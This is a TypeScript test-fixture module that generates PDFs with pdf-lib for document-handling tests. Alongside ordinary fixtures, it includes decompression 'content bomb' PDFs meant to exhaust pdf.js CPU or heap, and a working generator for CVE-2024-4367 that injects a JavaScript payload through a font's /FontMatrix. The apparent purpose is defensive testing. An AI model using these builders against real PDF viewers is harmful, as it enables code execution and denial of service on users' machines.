import { createHash, randomBytes } from "node:crypto";
import { deflateSync } from "node:zlib";
import {
  degrees,
  type PDFArray,
  PDFDocument,
  PDFHexString,
  PDFName,
  PDFRawStream,
  PDFString,
  StandardFonts,
  rgb,
} from "pdf-lib";

/**
 * PDFs generated for the document tests with pdf-lib (nothing is committed). Each builder says
 * what it exercises; the byte-level ones (encryption, a Type 1 font) follow the PDF and Type 1
 * specifications closely enough that pdf.js reads them as real files.
 */

export const THREE_PAGE_TEXT = [
  ["Quarterly report for the northern region", "Revenue grew twelve percent"],
  ["Second page discusses costs", "Travel and hosting were flat"],
  ["Third page lists risks", "Supply delays remain likely"],
];

export const THREE_PAGE_INFO = {
  title: "Quarterly Report Q3",
  author: "Ada Lovelace",
  subject: "Finance",
  keywords: ["report", "q3"],
};

/** Three A4 pages, each a coloured block and two known lines of Helvetica text; Info fields set. */
export async function threePagePdf(): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  doc.setTitle(THREE_PAGE_INFO.title);
  doc.setAuthor(THREE_PAGE_INFO.author);
  doc.setSubject(THREE_PAGE_INFO.subject);
  doc.setKeywords(THREE_PAGE_INFO.keywords);
  doc.setCreationDate(new Date("2024-03-01T10:20:30Z"));
  const font = await doc.embedFont(StandardFonts.Helvetica);
  THREE_PAGE_TEXT.forEach((lines, index) => {
    const page = doc.addPage([595, 842]);
    page.drawRectangle({ x: 50, y: 560, width: 300, height: 200, color: rgb(0.1 + 0.3 * index, 0.3, 0.7) });
    for (const [lineIndex, line] of lines.entries())
      page.drawText(line, { x: 50, y: 480 - lineIndex * 40, size: 24, font });
  });
  return doc.save();
}

/** One A4 portrait page turned landscape by /Rotate 90, as scanners write it. */
export async function rotatedPdf(): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const page = doc.addPage([595, 842]);
  page.drawText("Turned sideways", { x: 50, y: 700, size: 24, font });
  page.setRotation(degrees(90));
  return doc.save();
}

/** `pageCount` letter pages of a few words each: "Page 17 of the long document". */
export async function longPdf(pageCount: number): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  for (let pageNumber = 1; pageNumber <= pageCount; pageNumber += 1) {
    doc.addPage([612, 792]).drawText(`Page ${pageNumber} of the long document`, { x: 72, y: 700, size: 18, font });
  }
  return doc.save({ useObjectStreams: true });
}

/** Words on each page of {@link longPdf}. */
export const LONG_PDF_WORDS_PER_PAGE = 6;

/**
 * Japanese text in a Type0 font with the predefined CMap UniJIS-UCS2-H and no ToUnicode map:
 * pdf.js can only turn its codes into text with the bcmap files that ship in pdfjs-dist/cmaps.
 */
export async function japanesePdf(text = "日本語の文書"): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const page = doc.addPage([400, 200]);
  const ctx = doc.context;
  const descriptor = ctx.register(
    ctx.obj({
      Type: "FontDescriptor",
      FontName: "HeiseiMin-W3",
      Flags: 6,
      FontBBox: [-123, -257, 1001, 910],
      ItalicAngle: 0,
      Ascent: 723,
      Descent: -241,
      CapHeight: 709,
      StemV: 69,
    }),
  );
  const cidFont = ctx.register(
    ctx.obj({
      Type: "Font",
      Subtype: "CIDFontType0",
      BaseFont: "HeiseiMin-W3",
      CIDSystemInfo: { Registry: PDFString.of("Adobe"), Ordering: PDFString.of("Japan1"), Supplement: 2 },
      FontDescriptor: descriptor,
    }),
  );
  const font = ctx.register(
    ctx.obj({
      Type: "Font",
      Subtype: "Type0",
      BaseFont: "HeiseiMin-W3-UniJIS-UCS2-H",
      Encoding: "UniJIS-UCS2-H",
      DescendantFonts: [cidFont],
    }),
  );
  page.node.setFontDictionary(PDFName.of("F1"), font);
  const ucs2 = Buffer.from(text, "utf16le").swap16().toString("hex").toUpperCase();
  page.node.set(PDFName.of("Contents"), ctx.register(ctx.stream(`BT /F1 24 Tf 40 100 Td <${ucs2}> Tj ET`)));
  return doc.save({ useObjectStreams: false });
}

/**
 * A one-page PDF whose content stream inflates to `megabytes` MB: either line-drawing operators
 * (slow: seconds of pdf.js work per render) or one unterminated string (pdf.js collects it in
 * its heap character by character, at many times its size). A few hundred KB on disk.
 */
export async function contentBombPdf(kind: "slow" | "heap", megabytes: number): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const page = doc.addPage([600, 400]);
  const ctx = doc.context;
  const unit = kind === "slow" ? Buffer.from("1 1 m 2 2 l ".repeat(87_381), "latin1") : Buffer.alloc(1 << 20, 0x61);
  const content = Buffer.concat([
    Buffer.from(kind === "slow" ? "" : "BT (", "latin1"),
    ...Array.from({ length: megabytes }, () => unit),
  ]);
  const deflated = deflateSync(content, { level: 6 });
  page.node.set(
    PDFName.of("Contents"),
    ctx.register(PDFRawStream.of(ctx.obj({ Filter: "FlateDecode", Length: deflated.length }), deflated)),
  );
  return doc.save({ useObjectStreams: false });
}

/** {@link threePagePdf} without object streams, so that the objects come before the cross-reference table. */
export async function classicThreePagePdf(): Promise<Uint8Array> {
  const doc = await PDFDocument.load(await threePagePdf());
  return doc.save({ useObjectStreams: false });
}

// ---------------------------------------------------------------------------------------------
// Encryption: the Standard security handler, revision 2 (RC4, 40-bit), PDF 32000-1 §7.6.3.

const PASSWORD_PAD = Buffer.from("28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A", "hex");

function rc4(key: Uint8Array, data: Uint8Array): Buffer {
  const state = Array.from({ length: 256 }, (_, index) => index);
  for (let i = 0, j = 0; i < 256; i += 1) {
    j = (j + state[i]! + key[i % key.length]!) & 0xff;
    [state[i], state[j]] = [state[j]!, state[i]!];
  }
  const out = Buffer.alloc(data.length);
  for (let n = 0, i = 0, j = 0; n < data.length; n += 1) {
    i = (i + 1) & 0xff;
    j = (j + state[i]!) & 0xff;
    [state[i], state[j]] = [state[j]!, state[i]!];
    out[n] = data[n]! ^ state[(state[i]! + state[j]!) & 0xff]!;
  }
  return out;
}

const md5 = (...parts: Uint8Array[]) => createHash("md5").update(Buffer.concat(parts)).digest();
const padded = (password: string) => Buffer.concat([Buffer.from(password, "latin1"), PASSWORD_PAD]).subarray(0, 32);

/**
 * A one-page PDF encrypted for real: its content stream is RC4-encrypted with the key derived
 * from `userPassword`. With a non-empty user password it cannot be opened without it; with an
 * empty one (owner password only) anyone can read it, restrictions aside.
 */
export async function encryptedPdf(options: {
  userPassword: string;
  ownerPassword: string;
  text: string;
}): Promise<Uint8Array> {
  const doc = await PDFDocument.create({ updateMetadata: false });
  const ctx = doc.context;
  const page = doc.addPage([400, 200]);
  page.node.setFontDictionary(
    PDFName.of("F1"),
    ctx.register(ctx.obj({ Type: "Font", Subtype: "Type1", BaseFont: "Helvetica" })),
  );

  const id = randomBytes(16);
  const permissions = -4;
  const permissionBytes = Buffer.alloc(4);
  permissionBytes.writeInt32LE(permissions);
  const owner = rc4(md5(padded(options.ownerPassword)).subarray(0, 5), padded(options.userPassword));
  const fileKey = md5(padded(options.userPassword), owner, permissionBytes, id).subarray(0, 5);
  const user = rc4(fileKey, PASSWORD_PAD);
  const objectKey = (objectNumber: number) => {
    const suffix = Buffer.from([objectNumber & 0xff, (objectNumber >> 8) & 0xff, (objectNumber >> 16) & 0xff, 0, 0]);
    return md5(fileKey, suffix).subarray(0, 10);
  };

  const contentRef = ctx.nextRef();
  const content = rc4(
    objectKey(contentRef.objectNumber),
    Buffer.from(`BT /F1 24 Tf 40 100 Td (${options.text}) Tj ET`, "latin1"),
  );
  ctx.assign(contentRef, PDFRawStream.of(ctx.obj({ Length: content.length }), content));
  page.node.set(PDFName.of("Contents"), contentRef);
  ctx.trailerInfo.Encrypt = ctx.register(
    ctx.obj({
      Filter: "Standard",
      V: 1,
      R: 2,
      Length: 40,
      O: PDFHexString.of(owner.toString("hex")),
      U: PDFHexString.of(user.toString("hex")),
      P: permissions,
    }),
  );
  ctx.trailerInfo.ID = ctx.obj([PDFHexString.of(id.toString("hex")), PDFHexString.of(id.toString("hex"))]);
  return doc.save({ useObjectStreams: false });
}

// ---------------------------------------------------------------------------------------------
// CVE-2024-4367: a Type 1 font whose PDF /FontMatrix carries JavaScript. pdf.js ≤ 4.1.392 used
// that matrix, unchecked, in the glyph-drawing code it generated and ran with `new Function`.

const EEXEC_KEY = 55665;
const CHARSTRING_KEY = 4330;

function type1Encrypt(plain: Uint8Array, key: number): Buffer {
  let r = key;
  const out = Buffer.alloc(plain.length);
  for (let i = 0; i < plain.length; i += 1) {
    const cipher = plain[i]! ^ (r >> 8);
    out[i] = cipher;
    r = ((cipher + r) * 52845 + 22719) & 0xffff;
  }
  return out;
}

/** Type 1 charstring number encoding (range -1131..1131 is all these glyphs need). */
function charstringNumber(value: number): number[] {
  if (value >= -107 && value <= 107) return [value + 139];
  if (value >= 108 && value <= 1131) return [((value - 108) >> 8) + 247, (value - 108) & 0xff];
  if (value >= -1131 && value <= -108) return [((-value - 108) >> 8) + 251, (-value - 108) & 0xff];
  throw new Error(`charstring number out of range: ${value}`);
}

const HSBW = 13;
const RMOVETO = 21;
const RLINETO = 5;
const CLOSEPATH = 9;
const ENDCHAR = 14;
const charstring = (...ops: Array<number | number[]>) =>
  type1Encrypt(Uint8Array.from([0, 0, 0, 0, ...ops.flat()]), CHARSTRING_KEY);
const n = charstringNumber;

/**
 * A minimal Type 1 font program (PFA, hex eexec section) with one glyph, "A", drawn as a solid
 * box, and deliberately no /FontMatrix of its own, so that pdf.js takes the PDF dictionary's.
 */
export function boxType1Font(): { bytes: Buffer; length1: number; length2: number; length3: number } {
  const notdef = charstring(n(0), n(500), HSBW, ENDCHAR);
  const box = charstring(
    n(0),
    n(1000),
    HSBW,
    n(100),
    n(0),
    RMOVETO,
    n(800),
    n(0),
    RLINETO,
    n(0),
    n(700),
    RLINETO,
    n(-800),
    n(0),
    RLINETO,
    CLOSEPATH,
    ENDCHAR,
  );
  const clear = Buffer.from(
    [
      "%!PS-AdobeFont-1.0: BoxFont 001.000",
      "11 dict begin",
      "/FontInfo 1 dict dup begin /FullName (BoxFont) readonly def end readonly def",
      "/FontName /BoxFont def",
      "/PaintType 0 def",
      "/FontType 1 def",
      "/FontBBox {0 0 1000 1000} readonly def",
      "/Encoding StandardEncoding def",
      "currentdict end",
      "currentfile eexec",
      "",
    ].join("\n"),
    "latin1",
  );
  const privatePart = Buffer.concat([
    Buffer.from([0x41, 0x42, 0x43, 0x44]),
    Buffer.from(
      "dup /Private 8 dict dup begin\n/RD{string currentfile exch readstring pop}executeonly def\n/ND{noaccess def}executeonly def\n" +
        "/NP{noaccess put}executeonly def\n/BlueValues [] def\n/MinFeature{16 16}def\n/password 5839 def\n/Subrs 0 array\n" +
        "2 index /CharStrings 2 dict dup begin\n",
      "latin1",
    ),
    Buffer.from(`/.notdef ${notdef.length} RD `, "latin1"),
    notdef,
    Buffer.from(` ND\n/A ${box.length} RD `, "latin1"),
    box,
    Buffer.from(
      " ND\nend\nend\nreadonly put\nnoaccess put\ndup/FontName get exch definefont pop\nmark currentfile closefile\n",
      "latin1",
    ),
  ]);
  const eexec = Buffer.from(
    `${type1Encrypt(privatePart, EEXEC_KEY)
      .toString("hex")
      .replace(/(.{64})/g, "$1\n")}\n`,
    "latin1",
  );
  const trailer = Buffer.from(`${`${"0".repeat(64)}\n`.repeat(8)}cleartomark\n`, "latin1");
  return {
    bytes: Buffer.concat([clear, eexec, trailer]),
    length1: clear.length,
    length2: eexec.length,
    length3: trailer.length,
  };
}

/**
 * The exploit's shape (Codean Labs' write-up of CVE-2024-4367): a Type 1 font with an embedded
 * font program, whose /FontMatrix ends in a string instead of a number. pdf.js ≤ 4.1.392 joined
 * the matrix into `c.transform(…)` source text and compiled it, so the string runs as code.
 * The page shows "AAAA": four boxes drawn with that font.
 */
export async function fontMatrixInjectionPdf(payload: string): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const page = doc.addPage([600, 300]);
  const ctx = doc.context;
  const font = boxType1Font();
  const fontFile = ctx.register(
    ctx.stream(font.bytes, { Length1: font.length1, Length2: font.length2, Length3: font.length3 }),
  );
  const descriptor = ctx.register(
    ctx.obj({
      Type: "FontDescriptor",
      FontName: "BoxFont",
      Flags: 4,
      FontBBox: [0, 0, 1000, 1000],
      ItalicAngle: 0,
      Ascent: 1000,
      Descent: 0,
      CapHeight: 700,
      StemV: 80,
      FontFile: fontFile,
    }),
  );
  const matrix = ctx.obj([0.001, 0, 0, 0.001, 0]) as PDFArray;
  // A hex string keeps the payload's parentheses out of PDF string-literal escaping.
  matrix.push(PDFHexString.of(Buffer.from(payload, "latin1").toString("hex")));
  const fontDict = ctx.register(
    ctx.obj({
      Type: "Font",
      Subtype: "Type1",
      BaseFont: "BoxFont",
      FirstChar: 65,
      LastChar: 65,
      Widths: [1000],
      FontDescriptor: descriptor,
      FontMatrix: matrix,
    }),
  );
  page.node.setFontDictionary(PDFName.of("F1"), fontDict);
  page.node.set(PDFName.of("Contents"), ctx.register(ctx.stream("BT /F1 96 Tf 40 100 Td (AAAA) Tj ET")));
  return doc.save({ useObjectStreams: false });
}
